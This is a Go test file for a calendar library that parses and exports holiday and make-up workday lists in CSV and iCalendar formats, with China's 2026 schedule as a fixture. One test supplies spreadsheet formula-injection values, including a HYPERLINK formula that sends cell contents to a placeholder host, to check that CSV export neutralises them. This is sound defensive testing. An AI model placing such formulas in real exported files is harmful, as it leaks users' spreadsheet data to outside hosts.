package calendar

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestChina2026FixturesAgree(t *testing.T) {
	t.Parallel()
	csvData, err := os.ReadFile(filepath.Join("testdata", "cn-2026.csv"))
	require.NoError(t, err)
	icsData, err := os.ReadFile(filepath.Join("testdata", "cn-2026.ics"))
	require.NoError(t, err)
	fromCSV, err := ParseCSV(csvData)
	require.NoError(t, err)
	fromICS, err := ParseICS(icsData)
	require.NoError(t, err)
	require.Equal(t, fromCSV, fromICS)
	require.Len(t, fromCSV, 39)

	var holidays, workdays int
	for _, e := range fromCSV {
		if e.Kind == KindHoliday {
			holidays++
		} else {
			workdays++
		}
	}
	require.Equal(t, 33, holidays, "3+9+3+5+3+3+7 days off")
	require.Equal(t, 6, workdays, "1+2+1+2 make-up days")

	c := china2026(t)
	again, err := ParseCSV(c.ExportCSV())
	require.NoError(t, err)
	require.Equal(t, fromCSV, again)
}

func TestParseCSV(t *testing.T) {
	t.Parallel()
	got, err := ParseCSV([]byte("\ufeff# comment\n2026-02-14 , WorkDay , make-up \n\n2026-02-16,holiday\n" +
		"2026-02-17,holiday,\"Spring Festival, day 2\"\n2026-02-16,holiday,Spring Festival\n2026-02-16,holiday,Spring Festival\n"))
	require.NoError(t, err)
	require.Equal(t, []Entry{
		{Date: d(2026, 2, 14), Kind: KindWorkday, Name: "make-up"},
		{Date: d(2026, 2, 16), Kind: KindHoliday, Name: "Spring Festival"},
		{Date: d(2026, 2, 17), Kind: KindHoliday, Name: "Spring Festival, day 2"},
	}, got, "no header, BOM, comments, spaces, quotes; a repeated date merges")

	got, err = ParseCSV([]byte("Date,Kind,Name\r\n2026-01-01,holiday,A\r\n2026-01-01,holiday,B\r\n"))
	require.NoError(t, err)
	require.Equal(t, []Entry{{Date: d(2026, 1, 1), Kind: KindHoliday, Name: "A / B"}}, got)

	got, err = ParseCSV(nil)
	require.NoError(t, err)
	require.Empty(t, got)

	for _, tc := range []struct{ in, err string }{
		{"2026-02-14,workday\n2026-02-14,holiday\n", "csv line 2: 2026-02-14 is a holiday here but a working day at line 1: a date cannot be both"},
		{"date,kind\n2026-02-30,holiday\n", `csv line 2: date "2026-02-30": day 30 is outside 1-28`},
		{"20260214,holiday\n", `csv line 1: date "20260214": want YYYY-MM-DD`},
		{"2026-02-14,off\n", `csv line 1: kind "off": want holiday or workday`},
		{"2026-02-14\n", "csv line 1: 1 fields: want date,kind or date,kind,name"},
		{"2026-02-14,holiday,a,b\n", "csv line 1: 4 fields"},
		{"2026-02-14,holiday,\"a\nb\"\n", "csv line 1: the name contains a control character"},
		{"2026-02-14,holiday,\"open\n", "csv line 1: extraneous or missing \" in quoted-field"},
		{"date,kind\ndate,kind\n", `csv line 2: date "date": want YYYY-MM-DD`},
		{"2026-01-01,holiday," + strings.Repeat("x", MaxNameBytes+1) + "\n", "csv line 1: the name is 201 bytes long, more than 200"},
	} {
		_, err := ParseCSV([]byte(tc.in))
		require.ErrorContains(t, err, tc.err, tc.in)
		require.ErrorIs(t, err, ErrInvalid)
	}
}

func TestCSVLimits(t *testing.T) {
	t.Parallel()
	_, err := ParseCSV(make([]byte, MaxImportBytes+1))
	require.EqualError(t, err, "csv: the input is 2097153 bytes, more than the limit of 2097152 (2 MiB)")

	var b strings.Builder
	b.WriteString("date,kind\n")
	start := d(2000, 1, 1)
	for i := range MaxEvents + 1 {
		fmt.Fprintf(&b, "%s,holiday\n", start.AddDays(i))
	}
	_, err = ParseCSV([]byte(b.String()))
	require.EqualError(t, err, "csv line 10002: more than 10000 rows: split the calendar")
}

// ics wraps events into a calendar with CRLF line ends.
func ics(lines ...string) []byte {
	all := append(append([]string{"BEGIN:VCALENDAR", "VERSION:2.0"}, lines...), "END:VCALENDAR", "")
	return []byte(strings.Join(all, "\r\n"))
}

func TestParseICS(t *testing.T) {
	t.Parallel()
	got, err := ParseICS(ics(
		"BEGIN:VTIMEZONE", "TZID:Asia/Shanghai", "END:VTIMEZONE",
		"BEGIN:VEVENT", "DTSTART;VALUE=DATE:20260501", "DTEND;VALUE=DATE:20260503",
		"SUMMARY;LANGUAGE=en:Labour\\, May", " Day\\nholiday", "CATEGORIES:Public,HOLIDAY",
		"BEGIN:VALARM", "ACTION:DISPLAY", "DTSTART:20260101T000000", "END:VALARM", "END:VEVENT",
		"BEGIN:VEVENT", "DTSTART;VALUE=\"DATE\":20260509", "SUMMARY:调休上班", "CATEGORIES:workday", "END:VEVENT",
		"BEGIN:VEVENT", "DTSTART:20260601", "DURATION:P1W", "END:VEVENT",
		"BEGIN:VEVENT", "DTSTART;VALUE=DATE:20260701", "STATUS:CANCELLED", "RRULE:FREQ=DAILY", "END:VEVENT",
		"BEGIN:VEVENT", "DTSTART;VALUE=DATE:20260502", "SUMMARY:Labour, May Day holiday", "END:VEVENT",
	))
	require.NoError(t, err)
	want := []Entry{
		{Date: d(2026, 5, 1), Kind: KindHoliday, Name: "Labour, MayDay holiday"},
		{Date: d(2026, 5, 2), Kind: KindHoliday, Name: "Labour, MayDay holiday / Labour, May Day holiday"},
		{Date: d(2026, 5, 9), Kind: KindWorkday, Name: "调休上班"},
	}
	for i := range 7 {
		want = append(want, Entry{Date: d(2026, 6, 1+i), Kind: KindHoliday})
	}
	require.Equal(t, want, got, "folding, escapes, params, nested VALARM, DURATION, cancelled events, merging")

	got, err = ParseICS([]byte("BEGIN:VCALENDAR\nEND:VCALENDAR\n"))
	require.NoError(t, err)
	require.Empty(t, got, "LF line ends; no events")
}

func TestParseICSErrors(t *testing.T) {
	t.Parallel()
	ev := func(props ...string) []byte {
		return ics(append(append([]string{"BEGIN:VEVENT"}, props...), "END:VEVENT")...)
	}
	for _, tc := range []struct {
		name string
		in   []byte
		err  string
	}{
		{"rrule", ev("DTSTART;VALUE=DATE:20260101", "RRULE:FREQ=YEARLY"), "ics line 5: RRULE (recurrence) is not supported: list every holiday as its own event with its own dates (the VEVENT of line 3)"},
		{"rdate", ev("DTSTART;VALUE=DATE:20260101", "RDATE;VALUE=DATE:20270101"), "ics line 5: RDATE (recurrence) is not supported"},
		{"exdate", ev("DTSTART;VALUE=DATE:20260101", "EXDATE;VALUE=DATE:20270101"), "ics line 5: EXDATE (recurrence) is not supported"},
		{"recurrence-id", ev("RECURRENCE-ID;VALUE=DATE:20260101"), "ics line 4: RECURRENCE-ID (recurrence) is not supported"},
		{"time", ev("DTSTART:20260101T090000Z"), "ics line 4: DTSTART with a time (20260101T090000Z): holidays are whole days, write DTSTART;VALUE=DATE:YYYYMMDD"},
		{"tzid", ev("DTSTART;TZID=Asia/Shanghai:20260101T090000"), "ics line 4: DTSTART with a time zone (TZID=Asia/Shanghai)"},
		{"value date-time", ev("DTSTART;VALUE=DATE-TIME:20260101"), "ics line 4: DTSTART;VALUE=DATE-TIME: holidays are whole days"},
		{"end time", ev("DTSTART;VALUE=DATE:20260101", "DTEND:20260102T000000"), "ics line 5: DTEND with a time"},
		{"bad date", ev("DTSTART;VALUE=DATE:20260230"), "ics line 4: DTSTART: date \"2026-02-30\": day 30 is outside 1-28"},
		{"short date", ev("DTSTART;VALUE=DATE:2026011"), `ics line 4: DTSTART "2026011": want a date YYYYMMDD`},
		{"no dtstart", ev("SUMMARY:x"), "ics line 3: a VEVENT without DTSTART"},
		{"end before start", ev("DTSTART;VALUE=DATE:20260105", "DTEND;VALUE=DATE:20260105"), "ics line 5: DTEND 2026-01-05 is not after DTSTART 2026-01-05 (DTEND is exclusive: a one-day event on 2026-01-05 ends on 2026-01-06)"},
		{"too long", ev("DTSTART;VALUE=DATE:20260101", "DTEND;VALUE=DATE:20270201"), "ics line 5: an event of 396 days, longer than 366"},
		{"end and duration", ev("DTSTART;VALUE=DATE:20260101", "DTEND;VALUE=DATE:20260102", "DURATION:P1D"), "ics line 6: both DTEND (line 5) and DURATION: keep one"},
		{"duration with time", ev("DTSTART;VALUE=DATE:20260101", "DURATION:PT12H"), `ics line 5: DURATION "PT12H": want whole days or weeks`},
		{"zero duration", ev("DTSTART;VALUE=DATE:20260101", "DURATION:P0D"), "ics line 5: an event of 0 days: want 1 to 366"},
		{"two dtstart", ev("DTSTART;VALUE=DATE:20260101", "DTSTART;VALUE=DATE:20260102"), "ics line 5: a second DTSTART in the VEVENT of line 3 (the first is at line 4)"},
		{"both categories", ev("DTSTART;VALUE=DATE:20260101", "CATEGORIES:WORKDAY,HOLIDAY"), "ics line 5: CATEGORIES has both WORKDAY and HOLIDAY"},
		{"workday only in summary", ev("DTSTART;VALUE=DATE:20260214", "SUMMARY:春节补班"), `ics line 3: the SUMMARY "春节补班" reads like a working day, but CATEGORIES has neither WORKDAY nor HOLIDAY`},
		{"english workday summary", ev("DTSTART;VALUE=DATE:20260214", "SUMMARY:Make-up working day"), "reads like a working day"},
		{
			"overlap", ics("BEGIN:VEVENT", "DTSTART;VALUE=DATE:20260213", "DTEND;VALUE=DATE:20260216", "END:VEVENT",
				"BEGIN:VEVENT", "DTSTART;VALUE=DATE:20260214", "CATEGORIES:WORKDAY", "END:VEVENT"),
			"ics line 8: 2026-02-14 is a working day here but a holiday at line 4: a date cannot be both a holiday and a working day",
		},
		{"unclosed event", []byte("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDTSTART;VALUE=DATE:20260101\r\n"), "ics line 2: BEGIN:VEVENT is never closed (END:VEVENT is missing)"},
		{"mismatched end", []byte("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nEND:VCALENDAR\r\n"), "ics line 3: END:VCALENDAR, but the open component is VEVENT (line 2)"},
		{"end without begin", []byte("END:VCALENDAR\r\n"), "ics line 1: END:VCALENDAR without a BEGIN"},
		{"not ics", []byte("2026-01-01,holiday\n"), `ics line 1: "2026-01-01,holiday" is not a content line (NAME:value)`},
		{"empty", nil, "ics: no BEGIN:VCALENDAR: not an iCalendar file"},
		{"outside", []byte("VERSION:2.0\r\n"), "ics line 1: VERSION outside a VCALENDAR"},
		{"event outside", []byte("BEGIN:VEVENT\r\nEND:VEVENT\r\n"), "ics line 1: BEGIN:VEVENT outside a VCALENDAR"},
		{"nested event", ev("BEGIN:VEVENT"), "ics line 4: BEGIN:VEVENT inside the VEVENT of line 3"},
		{"unclosed quote", ev(`DTSTART;X="a:20260101`), "ics line 4: DTSTART: the quoted value of X is not closed"},
		{"param without value", ev("DTSTART;VALUE:20260101"), "ics line 4: DTSTART: a parameter without a value"},
		{"summary too long", ev("DTSTART;VALUE=DATE:20260101", "SUMMARY:"+strings.Repeat("x", 201)), "ics line 3: the SUMMARY of this VEVENT is 201 bytes long"},
		{"past 9999", ev("DTSTART;VALUE=DATE:99991231", "DURATION:P2D"), "ics line 4: the event runs past year 9999"},
		{"size", make([]byte, MaxImportBytes+1), "ics: the input is 2097153 bytes, more than the limit of 2097152 (2 MiB)"},
	} {
		_, err := ParseICS(tc.in)
		require.ErrorContains(t, err, tc.err, tc.name)
		require.ErrorIs(t, err, ErrInvalid, tc.name)
	}
}

func TestICSEventLimit(t *testing.T) {
	t.Parallel()
	var lines []string
	start := d(2000, 1, 1)
	for i := range MaxEvents + 1 {
		v := start.AddDays(i)
		lines = append(lines, "BEGIN:VEVENT", fmt.Sprintf("DTSTART;VALUE=DATE:%04d%02d%02d", v.Year, v.Month, v.Day), "END:VEVENT")
	}
	_, err := ParseICS(ics(lines...))
	require.EqualError(t, err, fmt.Sprintf("ics line %d: more than 10000 events: split the calendar", 3+3*MaxEvents))

	// Many days from few events: the cap on special days holds too.
	lines = lines[:0]
	for i := range 30 {
		v := start.AddDays(i * 366)
		lines = append(lines, "BEGIN:VEVENT", fmt.Sprintf("DTSTART;VALUE=DATE:%04d%02d%02d", v.Year, v.Month, v.Day), "DURATION:P366D", "END:VEVENT")
	}
	_, err = ParseICS(ics(lines...))
	require.ErrorContains(t, err, "more than 10000 special days")
}

// TestCSVExportHoldsNoFormula: a day's name is whatever its author typed;
// in the exported file no cell starts with what a spreadsheet runs as a
// formula, and the import reads every name back unchanged.
func TestCSVExportHoldsNoFormula(t *testing.T) {
	t.Parallel()
	names := []string{`=HYPERLINK("http://example.invalid/?"&A1,"x")`, "+1", "-2", "@SUM(A1)", "'=already quoted", "'plain quote", "plain"}
	var entries []Entry
	for i, n := range names {
		d, err := ParseDate(fmt.Sprintf("2026-03-%02d", i+1))
		require.NoError(t, err)
		entries = append(entries, Entry{Date: d, Kind: KindHoliday, Name: n})
	}
	out := FormatCSV(entries)
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	require.NoError(t, err)
	for _, r := range rows[1:] {
		require.NotContains(t, "=+-@", r[2][:1], "cell %q starts a formula", r[2])
	}
	require.Equal(t, "'=HYPERLINK(", rows[1][2][:12])
	back, err := ParseCSV(out)
	require.NoError(t, err)
	require.Len(t, back, len(names))
	for i, e := range back {
		require.Equal(t, names[i], e.Name)
	}
}
